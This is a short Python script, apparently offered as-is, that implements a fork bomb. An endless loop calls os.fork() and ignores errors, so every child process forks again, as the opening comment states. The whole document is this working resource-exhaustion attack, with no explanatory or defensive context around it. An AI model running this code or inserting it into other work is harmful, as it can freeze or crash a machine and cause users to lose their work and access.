# Forks for ever; each child does the same.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
